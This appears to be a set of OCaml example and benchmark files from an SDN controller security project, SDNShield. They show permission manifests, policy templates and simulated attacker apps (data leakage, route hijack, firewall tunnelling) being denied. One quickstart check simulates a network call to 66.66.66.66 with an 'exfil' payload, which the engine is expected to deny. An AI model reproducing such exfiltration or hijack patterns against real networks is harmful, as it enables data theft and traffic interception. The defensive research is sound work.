  Fmt.pr "@.--- Load-time access control ---@.";
  List.iter
    (fun (name, reason) -> Fmt.pr "REJECTED %-18s (%s)@." name reason)
    rt.Runtime.rejected;
  List.iter
    (fun (name, _, _) ->
      if not (List.mem_assoc name rt.Runtime.rejected) then
        Fmt.pr "LOADED   %s@." name)
    catalogue;

  Fmt.pr "@.--- Final permissions per app ---@.";
  List.iter
    (fun (name, m) -> Fmt.pr "@[<v2>%s:@,%a@]@." name Perm.pp m)
    report.Reconcile.manifests;
  Runtime.shutdown rt;

  (* Sanity check the pipeline did its job: the greedy backup agent
     lost its exfiltration channel. *)
  let backup = List.assoc "cloud-backup-agent" report.Reconcile.manifests in
  Fmt.pr "cloud-backup-agent can still write flows: %b@."
    (Perm.grants_token backup Token.Insert_flow);
  Fmt.pr "cloud-backup-agent can still phone home: %b@."
    (Perm.grants_token backup Token.Host_network);
  Fmt.pr "telemetry-uploader collector stub expanded: %b@."
    (Perm.macros (List.assoc "telemetry-uploader" report.Reconcile.manifests) = [])
