(* Virtual-topology tenant: the big-switch abstraction (§VI-B1).

   A cloud operator confines a tenant app to a virtual single big
   switch.  The tenant sees one switch whose ports are the hosts; its
   flow rules are transparently translated into per-hop physical rules
   along shortest paths, its statistics are aggregated, and any attempt
   to address a physical switch directly is denied.

   Run with: dune exec examples/virtual_tenant.exe *)

open Shield_openflow
open Shield_openflow.Types
open Shield_net
open Shield_controller
open Sdnshield

let tenant_manifest_src =
  "PERM visible_topology LIMITING VIRTUAL SINGLE_BIG_SWITCH LINK EXTERNAL_LINKS\n\
   PERM insert_flow LIMITING ACTION FORWARD\n\
   PERM read_statistics\nPERM read_flow_table\n"

let () =
  Fmt.pr "=== Virtual big-switch tenant ===@.@.";
  let topo = Topology.linear 4 in
  let dp = Dataplane.create topo in
  let kernel = Kernel.create dp in
  let ownership = Ownership.create () in
  let vdpid = Filter_eval.virtual_big_switch_dpid in

  let seen_view = ref None in
  let install_results = ref [] in
  let tenant =
    App.make
      ~init:(fun ctx ->
        (* What the tenant sees. *)
        (match ctx.App.call Api.Read_topology with
        | Api.Topology_of view -> seen_view := Some view
        | _ -> ());
        (* Pin a flow from host h1 (vport 1) to host h4 (vport 4). *)
        let fm =
          Flow_mod.add
            ~match_:(Match_fields.make ~in_port:1 ~dl_type:Eth_ip ())
            ~actions:[ Action.Output 4 ] ()
        in
        install_results :=
          [ ("flow on the big switch", ctx.App.call (Api.Install_flow (vdpid, fm)));
            ( "flow on physical s2 (forbidden)",
              ctx.App.call
                (Api.Install_flow
                   (2, Flow_mod.add ~match_:Match_fields.wildcard_all ~actions:[] ()))
            ) ])
      "tenant"
  in
  let checker =
    Engine.checker
      (Engine.create ~topo ~ownership ~app_name:"tenant" ~cookie:1
         (Perm_parser.manifest_exn tenant_manifest_src))
  in
  let rt = Runtime.create ~mode:Runtime.Monolithic kernel [ (tenant, checker) ] in

  Fmt.pr "--- Tenant's topology view ---@.";
  (match !seen_view with
  | Some view ->
    Fmt.pr "switches: %a@." Fmt.(list ~sep:comma int) view.Api.switches;
    List.iter
      (fun (h : Topology.host) ->
        Fmt.pr "host %s at vport %d@." h.Topology.name
          h.Topology.attachment.Topology.port)
      view.Api.hosts
  | None -> Fmt.pr "(no view)@.");

  Fmt.pr "@.--- Tenant's API calls ---@.";
  List.iter
    (fun (label, r) -> Fmt.pr "%-32s -> %a@." label Api.pp_result r)
    !install_results;

  Fmt.pr "@.--- What actually landed in the physical switches ---@.";
  List.iter
    (fun d ->
      let sw = Dataplane.switch dp d in
      if Flow_table.size sw.Switch.table > 0 then
        Fmt.pr "s%d:@.%a@." d Flow_table.pp sw.Switch.table)
    [ 1; 2; 3; 4 ];

  (* Physical reality: h1's traffic really reaches h4 along the path. *)
  let h1 = Option.get (Topology.host_by_name topo "h1") in
  let h4 = Option.get (Topology.host_by_name topo "h4") in
  (match Dataplane.probe dp ~src:h1 ~dst:h4 () with
  | Dataplane.Delivered_to (who, path) ->
    Fmt.pr "@.h1 -> h4 delivered to %s via s%a@." who
      Fmt.(list ~sep:(any "->s") int)
      path
  | _ -> Fmt.pr "@.h1 -> h4 NOT delivered@.");

  (* Aggregated statistics: one switch's worth of numbers. *)
  let stats_ctx = Runtime.instance_ctx rt "tenant" in
  (match stats_ctx.App.call (Api.Read_stats (Stats.request ~dpid:vdpid Stats.Switch_level)) with
  | Api.Stats_result (Stats.Switch_stats [ s ]) ->
    Fmt.pr "@.aggregated big-switch stats: dpid=%d flows=%d packets=%Ld@."
      s.Stats.dpid s.Stats.flow_count s.Stats.total_packets
  | r -> Fmt.pr "@.stats: %a@." Api.pp_result r);
  Runtime.shutdown rt
