(* Security-policy templates, one per attack class of the threat model
   (§II) — the paper suggests distributing exactly such templates "so
   as to lower the hurdle to have basic protection" (§III).

   The example applies each template to a deliberately over-privileged
   manifest and prints what reconciliation does to it.

   Run with: dune exec examples/policy_templates.exe *)

open Sdnshield

(* An app that asked for everything. *)
let greedy_manifest_src =
  "PERM read_flow_table\nPERM insert_flow\nPERM delete_flow\nPERM flow_event\n\
   PERM visible_topology\nPERM read_statistics\nPERM read_payload\n\
   PERM send_pkt_out\nPERM pkt_in_event\nPERM host_network\nPERM file_system\n\
   PERM process_runtime"

let templates =
  [ ( "class1-data-plane-intrusion",
      "Prevent remote-controlled packet injection: an app may talk to the\n\
       outside world or inject packets, never both.",
      "ASSERT EITHER { PERM host_network } OR { PERM send_pkt_out }" );
    ( "class2-information-leakage",
      "Prevent exfiltration of network state: outside connectivity and\n\
       payload/statistics visibility are mutually exclusive.",
      "ASSERT EITHER { PERM host_network } OR { PERM read_payload }\n\
       ASSERT EITHER { PERM host_network } OR { PERM read_statistics }" );
    ( "class3-rule-manipulation",
      "Confine rule writers: writes must be forwarding-only, on the app's\n\
       own flows, below the security apps' priority band.",
      "LET writerBound = {\n\
       PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS AND MAX_PRIORITY 400\n\
       PERM delete_flow LIMITING OWN_FLOWS\n\
       PERM visible_topology\nPERM flow_event\nPERM pkt_in_event\n\
       PERM read_payload\nPERM send_pkt_out\nPERM read_flow_table\n\
       PERM read_statistics\n\
       }\n\
       LET appPerm = APP greedy\n\
       ASSERT appPerm <= writerBound" );
    ( "class4-app-interference",
      "Protect security apps: no app may rewrite headers (tunnel endpoints)\n\
       or touch other apps' rules.",
      "LET noTunnel = {\n\
       PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS\n\
       PERM delete_flow LIMITING OWN_FLOWS\n\
       PERM read_flow_table LIMITING OWN_FLOWS\n\
       PERM visible_topology\nPERM flow_event\nPERM pkt_in_event\n\
       PERM read_payload\nPERM send_pkt_out\nPERM read_statistics\n\
       PERM host_network\nPERM file_system\nPERM process_runtime\n\
       }\n\
       LET appPerm = APP greedy\n\
       ASSERT appPerm <= noTunnel" ) ]

let () =
  let greedy = Perm_parser.manifest_exn greedy_manifest_src in
  Fmt.pr "=== Over-privileged manifest ===@.%a@.@." Perm.pp greedy;
  List.iter
    (fun (name, blurb, policy_src) ->
      Fmt.pr "==================================================@.";
      Fmt.pr "Template: %s@.%s@.@." name blurb;
      Fmt.pr "--- Policy ---@.%s@.@." policy_src;
      match Policy_parser.of_string policy_src with
      | Error e -> Fmt.pr "policy parse error: %s@." e
      | Ok policy ->
        let report = Reconcile.run ~apps:[ ("greedy", greedy) ] policy in
        List.iter
          (fun v -> Fmt.pr "violation: %s@." v.Reconcile.message)
          report.Reconcile.violations;
        let final = List.assoc "greedy" report.Reconcile.manifests in
        Fmt.pr "@.--- Reconciled manifest ---@.%a@.@." Perm.pp final;
        (* Sanity: the reconciled result is within the template's intent. *)
        Fmt.pr "tokens kept: %d of %d@.@." (List.length final) (List.length greedy))
    templates
