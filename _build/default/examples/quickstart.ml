(* Quickstart: the SDNShield permission pipeline in one page.

   1. Parse an app's permission manifest (the developer side).
   2. Compile it into a permission engine.
   3. Check some API calls against it and look at the decisions.

   Run with: dune exec examples/quickstart.exe *)

open Shield_openflow
open Shield_openflow.Types
open Shield_controller
open Sdnshield

let () =
  (* A least-privilege manifest for a reactive forwarding app: it may
     watch packet-ins, install forwarding-only rules into the
     10.0.0.0/8 tenant space, and replay buffered packets — no
     arbitrary injection, no host access. *)
  let manifest_src =
    "PERM pkt_in_event\n\
     PERM read_payload\n\
     PERM insert_flow LIMITING ACTION FORWARD AND \\\n\
     \                 IP_DST 10.0.0.0 MASK 255.0.0.0 AND MAX_PRIORITY 1000\n\
     PERM send_pkt_out LIMITING FROM_PKT_IN\n"
  in
  let manifest = Perm_parser.manifest_exn manifest_src in
  Fmt.pr "=== Requested manifest ===@.%a@.@." Perm.pp manifest;

  let engine =
    Engine.create
      ~ownership:(Ownership.create ())
      ~app_name:"quickstart" ~cookie:1 manifest
  in

  let check label call =
    match Engine.check engine call with
    | Api.Allow -> Fmt.pr "ALLOW  %-38s %a@." label Api.pp_call call
    | Api.Deny _ -> Fmt.pr "DENY   %-38s %a@." label Api.pp_call call
  in

  let fm ?(priority = 100) ?(actions = [ Action.Output 2 ]) dst =
    Flow_mod.add ~priority
      ~match_:
        (Match_fields.make ~dl_type:Eth_ip
           ~nw_dst:(Match_fields.exact_ip (ipv4_of_string dst))
           ())
      ~actions ()
  in

  Fmt.pr "=== Decisions ===@.";
  check "forwarding rule in tenant space" (Api.Install_flow (1, fm "10.3.2.1"));
  check "rule outside tenant space" (Api.Install_flow (1, fm "192.168.1.1"));
  check "over-priority rule" (Api.Install_flow (1, fm ~priority:5000 "10.3.2.1"));
  check "header-rewriting rule"
    (Api.Install_flow
       (1, fm ~actions:[ Action.Set (Action.Set_tp_dst 80); Action.Output 2 ] "10.3.2.1"));
  check "packet-in replay"
    (Api.Send_packet_out
       { dpid = 1; port = 2; packet = Packet.arp ~src:1 ~dst:2 (); from_pkt_in = true });
  check "arbitrary packet injection"
    (Api.Send_packet_out
       { dpid = 1; port = 2; packet = Packet.arp ~src:1 ~dst:2 (); from_pkt_in = false });
  check "topology read (no token)" Api.Read_topology;
  check "host network access (no token)"
    (Api.Syscall
       (Api.Net_connect
          { dst = ipv4_of_string "66.66.66.66"; dst_port = 80; payload = "exfil" }));

  (* Transactions: all-or-nothing rule groups (§VI-B2). *)
  Fmt.pr "@.=== Transactional API calls ===@.";
  (match
     Engine.check_transaction engine
       [ Api.Install_flow (1, fm "10.1.1.1");
         Api.Install_flow (1, fm "192.168.9.9");
         Api.Install_flow (1, fm "10.1.1.2") ]
   with
  | Ok () -> Fmt.pr "transaction approved@."
  | Error (i, why) ->
    Fmt.pr "transaction rejected at call #%d (%s) — nothing was installed@."
      i why);
  let checks, denials = Engine.stats engine in
  Fmt.pr "@.%d permission checks performed, %d denied.@." checks denials
