(* High-level policy composition under SDNShield (§VI-C).

   A firewall module and a routing module are written in the bundled
   decision-tree policy language and composed; the compiler tracks
   which app contributed each compiled rule, and SDNShield checks every
   rule against each owner's permission engine — including the partial-
   denial mode the paper sketches as future work.

   Run with: dune exec examples/hll_composition.exe *)

open Shield_openflow
open Shield_openflow.Types
open Shield_net
open Shield_controller
open Shield_hll
open Sdnshield

let () =
  Fmt.pr "=== High-level policy composition under SDNShield ===@.@.";
  let open Syntax in
  (* Module 1 (firewall app): only web traffic may proceed; everything
     else dies here. *)
  let firewall ~inner =
    tag "firewall"
      (if_
         (Test (Eth_type_is Eth_ip) &&. (tcp_dst 80 ||. tcp_dst 443))
         ~then_:inner ~else_:Drop)
  in
  (* Module 2 (router app): send 10.0/8 traffic out port 2, and rewrite
     a legacy server's port on the way. *)
  let router =
    tag "router"
      (if_
         (ip_dst_subnet (ipv4_of_string "10.0.0.0") (prefix_mask 8))
         ~then_:
           (if_ (tcp_dst 443)
              ~then_:(Modify (Action.Set_tp_dst 8443, Forward 2))
              ~else_:(Forward 2))
         ~else_:Drop)
  in
  let composed = firewall ~inner:router in
  Fmt.pr "--- Composed policy ---@.%a@.@." pp_policy composed;

  Fmt.pr "--- Compiled rules (with ownership) ---@.";
  let rules = Compiler.compile composed in
  List.iter (fun r -> Fmt.pr "%a@." Compiler.pp_rule r) rules;

  (* Permission engines: the firewall may do anything to flows; the
     router is forwarding-only — so the compiled rewrite rule it
     co-owns must be rejected on its behalf. *)
  let ownership = Ownership.create () in
  let engines =
    [ ("firewall",
       Engine.create ~ownership ~app_name:"firewall" ~cookie:1
         (Perm_parser.manifest_exn "PERM insert_flow"));
      ("router",
       Engine.create ~ownership ~app_name:"router" ~cookie:2
         (Perm_parser.manifest_exn
            "PERM insert_flow LIMITING ACTION FORWARD OR ACTION DROP")) ]
  in
  let run_mode mode label =
    Fmt.pr "@.--- Deployment (%s) ---@." label;
    let topo = Topology.linear 2 in
    let dp = Dataplane.create topo in
    let kernel = Kernel.create dp in
    let report =
      Deploy.deploy ~mode ~engines ~switches:[ 1 ]
        ~install:(fun d fm ->
          ignore (Kernel.exec kernel ~app:"hll" ~cookie:9 (Api.Install_flow (d, fm))))
        composed
    in
    List.iter (fun v -> Fmt.pr "%a@." Deploy.pp_verdict v) report.Deploy.verdicts;
    Fmt.pr "installed=%d rejected=%d@." report.Deploy.installed_rules
      report.Deploy.rejected_rules;
    (* Observable behaviour. *)
    let probe tp_dst =
      let p =
        Packet.tcp ~src:1 ~dst:2 ~nw_src:(ipv4_of_string "10.0.0.1")
          ~nw_dst:(ipv4_of_string "10.0.0.9") ~tp_src:555 ~tp_dst ()
      in
      let r = Dataplane.inject_at dp ~dpid:1 ~in_port:3 p in
      if r.Dataplane.dropped > 0 then "dropped"
      else if r.Dataplane.punted <> [] then "punted"
      else "forwarded"
    in
    Fmt.pr "http(80): %s, https(443): %s, telnet(23): %s@." (probe 80)
      (probe 443) (probe 23)
  in
  run_mode Deploy.Strict "strict: all owners must authorise";
  run_mode Deploy.Partial "partial denial: unauthorised owners reported"
