(* Scenario 1 of the paper (§VII): a vulnerable monitoring app in a
   multi-tenant network.

   The app ships a manifest with two developer stubs; the administrator
   supplies local bindings and a mutual-exclusion policy; the
   reconciliation engine expands the stubs, detects the exclusion
   violation and truncates insert_flow.  We then deploy the app under
   the reconciled permissions next to an attacker exploiting its
   arbitrary-code-execution vulnerability, and watch every attack class
   die while the app's legitimate job still works.

   Run with: dune exec examples/monitoring_tenant.exe *)

open Shield_openflow.Types
open Shield_net
open Shield_controller
open Shield_apps
open Sdnshield

let () =
  Fmt.pr "=== Scenario 1: vulnerable monitoring app ===@.@.";

  (* 1. The app release ships this manifest (stubs included). *)
  Fmt.pr "--- Developer manifest (with stubs) ---@.%s@." Monitoring.manifest_src;

  (* 2. The administrator's local policy. *)
  let policy_src =
    Monitoring.policy_src ~switches:[ 1; 2; 3 ] ~admin_subnet:"10.1.0.0"
      ~admin_mask:"255.255.0.0"
  in
  Fmt.pr "--- Administrator policy ---@.%s@." policy_src;

  (* 3. Reconciliation. *)
  let final, report =
    match
      Reconcile.run_strings ~app_name:"monitoring"
        ~manifest_src:Monitoring.manifest_src ~policy_src
    with
    | Ok (m, r) -> (m, r)
    | Error e -> failwith e
  in
  Fmt.pr "--- Reconciliation report ---@.";
  List.iter (fun v -> Fmt.pr "%a@." Reconcile.pp_violation v) report.Reconcile.violations;
  Fmt.pr "@.--- Final permissions ---@.%a@.@." Perm.pp final;

  (* 4. Deployment: the benign monitoring app plus the four attacks an
     intruder could mount through its vulnerability, all running under
     the reconciled permissions. *)
  let topo = Topology.linear 3 in
  let dp = Dataplane.create topo in
  let kernel = Kernel.create dp in
  let ownership = Ownership.create () in
  let checker_for name cookie =
    Engine.checker (Engine.create ~topo ~ownership ~app_name:name ~cookie final)
  in
  let monitoring = Monitoring.create ~collector_ip:(ipv4_of_string "10.1.0.5") () in
  let leaker = Attacks.info_leaker () in
  let victim = Option.get (Topology.host_by_name topo "h3") in
  let hijacker =
    Attacks.route_hijacker ~victim_dst_ip:victim.Topology.ip ~mitm_host:"h2" ()
  in
  let rt =
    Runtime.create
      ~mode:(Runtime.Isolated { ksd_threads = 2 })
      kernel
      [ (Monitoring.app monitoring, checker_for "monitoring" 1);
        (leaker.Attacks.app, checker_for "info_leaker" 2);
        (hijacker.Attacks.app, checker_for "route_hijacker" 3) ]
  in

  (* The app's legitimate duty works... *)
  Runtime.feed_sync rt Monitoring.tick_event;
  Fmt.pr "--- Legitimate behaviour ---@.";
  Fmt.pr "monitoring reports delivered to collector: %d (denied: %d)@.@."
    !(monitoring.Monitoring.reports_sent)
    !(monitoring.Monitoring.reports_failed);

  (* ...while the attacks do not. *)
  Runtime.feed_sync rt Attacks.tick_event;
  Runtime.shutdown rt;
  Fmt.pr "--- Attack outcomes under SDNShield ---@.";
  Fmt.pr "Class 2 exfiltration to %a: %s@." pp_ipv4 leaker.Attacks.attacker_ip
    (if
       Attacks.leak_succeeded kernel.Kernel.sandbox ~app:"info_leaker"
         ~attacker_ip:leaker.Attacks.attacker_ip
     then "SUCCEEDED"
     else "BLOCKED");
  let h1 = Option.get (Topology.host_by_name topo "h1") in
  let h2 = Option.get (Topology.host_by_name topo "h2") in
  Fmt.pr "Class 3 route hijack of h1->h3 via h2: %s@."
    (if Attacks.hijack_succeeded dp ~src:h1 ~dst:victim ~mitm:h2 then "SUCCEEDED"
     else "BLOCKED");
  Fmt.pr "@.Audit log (denied actions):@.";
  List.iter
    (fun (e : Sandbox.audit_entry) ->
      if not e.Sandbox.allowed then
        Fmt.pr "  [%s] %s@." e.Sandbox.app_name e.Sandbox.action)
    (Sandbox.audit_log kernel.Kernel.sandbox)
