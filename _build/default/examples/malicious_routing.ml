(* Scenario 2 of the paper (§VII): a malicious routing app.

   The app implements shortest-path routing faithfully, but embedded
   malicious code occasionally tries control-plane attacks.  Under the
   Scenario-2 permissions —

       PERM visible_topology
       PERM flow_event
       PERM send_pkt_out
       PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS

   — the routing duty works while rule-manipulation attacks are denied.

   Part A pairs the malicious routing app with its own benign routes
   and shows the route-hijack payload failing; Part B pairs a security
   (firewall) app with a tunnelling payload and shows the dynamic-flow
   tunnel failing.  (OWN_FLOWS deliberately prevents *any* overlap with
   another app's rules, so apps that must layer rules over each other —
   e.g. routing over a firewall's catch-all — belong in different
   priority bands via MAX/MIN_PRIORITY filters instead; see
   examples/policy_templates.exe.)

   Run with: dune exec examples/malicious_routing.exe *)

open Shield_net
open Shield_controller
open Shield_apps
open Sdnshield

let checker ~topo ~ownership name cookie src =
  Engine.checker
    (Engine.create ~topo ~ownership ~app_name:name ~cookie
       (Perm_parser.manifest_exn src))

let print_denials kernel =
  Fmt.pr "@.--- Why (audit log) ---@.";
  List.iter
    (fun (e : Sandbox.audit_entry) ->
      if not e.Sandbox.allowed then
        Fmt.pr "  [%s] denied: %s@." e.Sandbox.app_name e.Sandbox.action)
    (Sandbox.audit_log kernel.Kernel.sandbox)

let () =
  Fmt.pr "=== Scenario 2: malicious routing app ===@.@.";
  Fmt.pr "--- Permissions ---@.%s@." Routing.manifest_src;

  (* Part A: the routing app does its job; its hijack payload dies. *)
  Fmt.pr "================ Part A: route hijack ================@.";
  let topo = Topology.linear 3 in
  let dp = Dataplane.create topo in
  let kernel = Kernel.create dp in
  let ownership = Ownership.create () in
  let routing = Routing.create () in
  let h1 = Option.get (Topology.host_by_name topo "h1") in
  let h2 = Option.get (Topology.host_by_name topo "h2") in
  let h3 = Option.get (Topology.host_by_name topo "h3") in
  let hijacker =
    Attacks.route_hijacker ~name:"routing_evil" ~victim_dst_ip:h3.Topology.ip
      ~mitm_host:"h2" ()
  in
  let rt =
    Runtime.create ~mode:Runtime.Monolithic kernel
      [ (Routing.app routing, checker ~topo ~ownership "routing" 1 Routing.manifest_src);
        (hijacker.Attacks.app, checker ~topo ~ownership "routing_evil" 2 Routing.manifest_src) ]
  in
  Fmt.pr "routing rules installed: %d@." !(routing.Routing.rules_installed);
  (match Dataplane.probe dp ~src:h1 ~dst:h3 ~tp_dst:80 () with
  | Dataplane.Delivered_to (who, path) ->
    Fmt.pr "h1 -> h3: delivered to %s via s%a@." who
      Fmt.(list ~sep:(any "->s") int)
      path
  | _ -> Fmt.pr "h1 -> h3: NOT delivered@.");
  Runtime.feed_sync rt Attacks.tick_event;
  Runtime.shutdown rt;
  Fmt.pr "route hijack (divert h1->h3 into h2): %s@."
    (if Attacks.hijack_succeeded dp ~src:h1 ~dst:h3 ~mitm:h2 then "SUCCEEDED"
     else "BLOCKED");
  print_denials kernel;

  (* Part B: a firewall app guards the network; a tunnelling payload
     with Scenario-2 permissions cannot pierce it. *)
  Fmt.pr "@.================ Part B: dynamic-flow tunnel ================@.";
  let topo = Topology.linear 3 in
  let dp = Dataplane.create topo in
  let kernel = Kernel.create dp in
  let ownership = Ownership.create () in
  let firewall = Firewall.create () in
  let tunnel = Attacks.tunnel_app ~name:"tunnel_evil" ~src_host:"h1" ~dst_host:"h3" () in
  let rt =
    Runtime.create ~mode:Runtime.Monolithic kernel
      [ (Firewall.app firewall, checker ~topo ~ownership "firewall" 1 Firewall.manifest_src);
        (tunnel.Attacks.app, checker ~topo ~ownership "tunnel_evil" 2 Routing.manifest_src) ]
  in
  let h1 = Option.get (Topology.host_by_name topo "h1") in
  let h3 = Option.get (Topology.host_by_name topo "h3") in
  Fmt.pr "firewall rules installed: %d@." !(firewall.Firewall.rules_installed);
  Runtime.feed_sync rt Attacks.tick_event;
  Runtime.shutdown rt;
  Fmt.pr "dynamic-flow tunnel (telnet through port-80 firewall): %s@."
    (if Attacks.tunnel_succeeded dp ~src:h1 ~dst:h3 () then "SUCCEEDED"
     else "BLOCKED");
  (match Dataplane.probe dp ~src:h1 ~dst:h3 ~tp_dst:80 () with
  | Dataplane.Delivered_to _ -> Fmt.pr "HTTP h1->h3 still flows@."
  | _ -> Fmt.pr "HTTP h1->h3 broken!@.");
  (match Dataplane.probe dp ~src:h1 ~dst:h3 ~tp_dst:23 () with
  | Dataplane.Dropped_ -> Fmt.pr "telnet h1->h3 still dropped by the firewall@."
  | _ -> Fmt.pr "telnet h1->h3 escaped the firewall!@.");
  print_denials kernel
