(* Benchmark harness: regenerates every table and figure of the
   paper's evaluation (§IX), plus the ablations called out in
   DESIGN.md.

     dune exec bench/main.exe             # everything
     dune exec bench/main.exe -- fig5     # one experiment

   Experiments: table1 effectiveness reconciliation fig5 fig6 fig7 fig8
                reconcile-perf decision-cache cache-smoke automaton-lab
                automaton-smoke faults faults-smoke vetting-lab
                vet-smoke lint-lab lint-smoke verify-lab verify-smoke
                diff-lab diff-smoke trace-lab obs-smoke health-smoke
                market-lab market-smoke
                ablation-compile ablation-isolation ablation-inclusion *)

let experiments : (string * (unit -> unit)) list =
  [ ("table1", Table1.run);
    ("effectiveness", Effectiveness.run_attacks);
    ("reconciliation", Effectiveness.run_reconciliation);
    ("fig5", Fig5.run);
    ("fig6", Fig6.run);
    ("fig7", Fig7.run);
    ("fig8", Fig8.run);
    ("reconcile-perf", Reconcile_perf.run);
    ("decision-cache", Cache_bench.run);
    ("cache-smoke", Cache_bench.smoke);
    ("automaton-lab", Automaton_lab.run);
    ("automaton-smoke", Automaton_lab.smoke);
    ("faults", Fault_lab.run);
    ("faults-smoke", Fault_lab.smoke);
    ("vetting-lab", Vetting_lab.run);
    ("vet-smoke", Vetting_lab.smoke);
    ("lint-lab", Lint_lab.run);
    ("lint-smoke", Lint_lab.smoke);
    ("verify-lab", Verify_lab.run);
    ("verify-smoke", Verify_lab.smoke);
    ("diff-lab", Diff_lab.run);
    ("diff-smoke", Diff_lab.smoke);
    ("trace-lab", Trace_lab.run);
    ("obs-smoke", Trace_lab.smoke);
    ("health-smoke", Health_lab.smoke);
    ("market-lab", Market_lab.run);
    ("market-smoke", Market_lab.smoke);
    ("ablation-compile", Ablations.run_compile);
    ("ablation-isolation", Ablations.run_isolation);
    ("ablation-inclusion", Ablations.run_inclusion) ]

let () =
  let args = Array.to_list Sys.argv |> List.tl in
  match args with
  | [] | [ "all" ] -> List.iter (fun (_, f) -> f ()) experiments
  | names ->
    List.iter
      (fun name ->
        match List.assoc_opt name experiments with
        | Some f -> f ()
        | None ->
          Fmt.epr "unknown experiment %S; available: %s@." name
            (String.concat ", " (List.map fst experiments));
          exit 2)
      names
