(* Decision-cache benchmark — interpreted vs compiled vs cached
   checking throughput under CBench-style call workloads.

   Methodology (EXPERIMENTS.md): the large Figure-5 manifest, insert-
   focused traces with the standard 5 % violation rate, stateless
   checking as in the paper's single-core microbenchmark.  Two access
   patterns:

     - skewed:  64 distinct calls, 90 % of accesses to the hottest 8
                (a CBench-style elephant-flow mix) — the cache's home
                turf;
     - uniform: 32768 distinct calls cycling against a 16384-entry
                cache, so the flush-on-full policy churns and the
                cache buys little.

   A separate section exercises the stateful path (ownership recording
   on) to show generation-counter invalidation at work, and another
   measures the normal-form / inclusion memo tables cold vs warm. *)

open Shield_workload
open Sdnshield
module M = Shield_controller.Metrics

let manifest () = Perm_gen.generate ~complexity:Perm_gen.Large ~focus:`Insert ()

(* Workload construction -------------------------------------------------- *)

(** [base_calls n] — [n] distinct insert-focused calls, 5 % violating. *)
let base_calls n = Array.map fst (Api_trace.generate ~focus:`Insert ~n ())

(** A trace of [n] accesses over [base], 90 % of them drawn from the
    first eighth of the population (the "hot set"). *)
let skewed_trace ~base ~n =
  let rng = Prng.of_int 42 in
  let distinct = Array.length base in
  let hot = max 1 (distinct / 8) in
  Array.init n (fun _ ->
      if Prng.int rng 10 < 9 then base.(Prng.int rng hot)
      else base.(Prng.int rng distinct))

(* Measurement ------------------------------------------------------------ *)

(** Ops/s of [check] over [trace]: one warm pass (fills caches), then
    [repeats] timed passes. *)
let throughput ?(repeats = 4) check trace =
  Array.iter (fun c -> ignore (check c)) trace;
  let (), dt =
    Bench_util.timed (fun () ->
        for _ = 1 to repeats do
          Array.iter (fun c -> ignore (Sys.opaque_identity (check c))) trace
        done)
  in
  float_of_int (repeats * Array.length trace) /. dt

let fmt_mops ops = Printf.sprintf "%.2f M ops/s" (ops /. 1e6)
let fmt_rate s = Printf.sprintf "%.1f %%" (100. *. M.hit_rate s)

(** The four checker variants over one manifest.  Stateless checking
    ([record_state:false] / pure env), as in Figure 5. *)
let variants ~tag m =
  let engine ?cache_size name =
    let e =
      Engine.create ~record_state:false ?cache_size
        ~ownership:(Ownership.create ())
        ~app_name:(tag ^ "-" ^ name) ~cookie:1 m
    in
    ((fun call -> Engine.check e call), fun () -> Engine.cache_stats e)
  in
  let compiled ?cache_size () =
    let c = Compiled.of_manifest ?cache_size m in
    ((fun call -> Compiled.check c call), fun () -> Compiled.cache_stats c)
  in
  [ ("engine (interpreted)", engine "raw");
    ("engine + cache", engine ~cache_size:Decision_cache.default_max_entries "cached");
    ("compiled", compiled ());
    ("compiled + cache", compiled ~cache_size:Decision_cache.default_max_entries ()) ]

let workload_section ~title ~trace m =
  Bench_util.subhr title;
  let rows, measures, baseline =
    List.fold_left
      (fun (rows, measures, baseline) (name, (check, stats)) ->
        let ops = throughput check trace in
        let baseline = match baseline with None -> Some ops | s -> s in
        let speedup = ops /. Option.get baseline in
        let hit_rate = Option.map M.hit_rate (stats ()) in
        let hit =
          match stats () with None -> "-" | Some s -> fmt_rate s
        in
        ( rows @ [ [ name; fmt_mops ops; Printf.sprintf "%.2fx" speedup; hit ] ],
          measures @ [ (name, ops, hit_rate) ],
          baseline ))
      ([], [], None) (variants ~tag:title m)
  in
  ignore baseline;
  Bench_util.table [ "checker"; "throughput"; "vs interpreted"; "hit rate" ] rows;
  (rows, measures)

(** Speedup of the cached engine over the interpreted one, read back
    out of a section's rows (used by the smoke gate). *)
let cached_vs_interpreted rows =
  let ops_of row = Scanf.sscanf (List.nth row 1) "%f" Fun.id in
  let find name = List.find (fun r -> List.hd r = name) rows in
  ops_of (find "engine + cache") /. ops_of (find "engine (interpreted)")

let stateful_section () =
  Bench_util.subhr
    "stateful path: ownership recording on (generation invalidation)";
  (* An explicitly stateful Insert_flow grant — OWN_FLOWS and
     MAX_RULE_COUNT both read the ownership store, so every approved
     flow-mod bumps the generation and stings the cache. *)
  let m =
    Perm.normalize
      [ Perm.make
          ~filter:
            (Filter.conj Filter.own_flows
               (Filter.atom (Filter.Max_rule_count 1_000_000)))
          Token.Insert_flow ]
  in
  let e =
    Engine.create ~cache_size:Decision_cache.default_max_entries
      ~ownership:(Ownership.create ())
      ~app_name:"bench-stateful" ~cookie:1 m
  in
  let trace = skewed_trace ~base:(base_calls 64) ~n:8192 in
  Array.iter (fun c -> ignore (Engine.check e c)) trace;
  match Engine.cache_stats e with
  | None -> ()
  | Some s ->
    Fmt.pr
      "8192 checks: %d hits, %d misses, %d invalidations (each approved \
       flow-mod bumps the ownership generation)@."
      s.M.hits s.M.misses s.M.invalidations

let memo_section () =
  Bench_util.subhr "normal-form / inclusion memoization (cold vs warm)";
  let m = manifest () in
  let filters = List.map (fun (p : Perm.t) -> p.Perm.filter) m in
  let work () =
    List.iter
      (fun a ->
        List.iter (fun b -> ignore (Inclusion.filter_includes a b)) filters)
      filters
  in
  Nf.clear_memo ();
  Inclusion.clear_memo ();
  let (), cold = Bench_util.timed work in
  let (), warm = Bench_util.timed work in
  let n = List.length filters in
  Fmt.pr "%dx%d inclusion queries: cold %s, warm %s (%.0fx)@." n n
    (Bench_util.fmt_us cold) (Bench_util.fmt_us warm)
    (cold /. max warm 1e-9);
  (cold, warm)

let json_of_workload label measures =
  let module J = Bench_util.Json in
  ( label,
    J.Arr
      (List.map
         (fun (name, ops, hit_rate) ->
           J.Obj
             [ ("checker", J.Str name);
               ("mops", J.Float (ops /. 1e6));
               ( "hit_rate",
                 match hit_rate with None -> J.Null | Some r -> J.Float r ) ])
         measures) )

(* Entry points ----------------------------------------------------------- *)

let run () =
  Bench_util.hr
